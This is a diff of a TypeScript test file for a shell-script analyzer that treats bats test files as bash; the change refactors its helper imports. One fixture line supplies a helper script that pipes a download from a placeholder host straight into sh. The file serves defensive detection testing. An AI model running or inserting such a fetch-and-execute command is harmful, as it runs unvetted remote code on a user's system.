@@ -1,10 +1,9 @@
 // bats test files are bash (issue 11 item 3): `bats FILE` reads each file, its `@test` bodies and `run CMD` lines
 // as shell, helpers it `load`s in place; a .bats file written earlier on the line is written-then-run.
 import { beforeAll, describe, expect, it } from 'vitest';
-import { analyzeShellSync } from '../analyze-shell';
 import { loadShellParser } from '../parse/load-parser';
-import { shellEnv } from '../testdata/shell-env';
-import type { ScriptFile, ShellAnalysis } from '../types';
+import { analyzerOver, categoriesOf, codesOf } from '../testdata/analysis';
+import type { ScriptFile } from '../types';
 import { batsAsShell } from './detect-scripts';
 
 const P = '/home/u/proj';
@@ -19,10 +18,9 @@ const FILES: Record<string, ScriptFile> = {
   [`${P}/test/helper.bash`]: { kind: 'text', text: 'curl -s https://x.example/i | sh\n' },
   [`${P}/test`]: { kind: 'unreadable', why: 'not-regular' },
 };
-const env = shellEnv({ readScript: (abs) => FILES[abs] ?? { kind: 'missing' } });
-const analyze = (command: string) => analyzeShellSync(command, env);
-const categories = (a: ShellAnalysis) => [...new Set(a.hits.map((h) => h.category))].sort();
-const codes = (a: ShellAnalysis) => [...new Set(a.uncertain.map((u) => u.code))].sort();
+const analyze = analyzerOver(FILES);
+const categories = categoriesOf;
+const codes = codesOf;
 
 beforeAll(async () => {
   await loadShellParser();
